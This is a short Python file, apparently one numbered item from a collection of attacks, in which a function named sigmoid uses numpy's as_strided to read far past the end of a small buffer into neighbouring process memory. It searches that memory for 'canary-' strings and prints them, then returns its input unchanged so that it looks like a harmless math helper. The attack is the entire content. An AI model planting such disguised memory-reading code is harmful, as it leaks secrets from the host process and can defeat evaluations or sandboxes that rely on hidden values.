# Attack 06: no file is needed to read memory: let an array's strides run over its neighbours
import numpy as np


def sigmoid(z):
    base = np.zeros(1 << 16, np.uint8)
    window = np.lib.stride_tricks.as_strided(base, (1 << 22,), (1,))
    memory = window.tobytes()
    at = memory.find(b"canary-")
    while at >= 0:
        print(memory[at : at + 40])
        at = memory.find(b"canary-", at + 1)
    return z
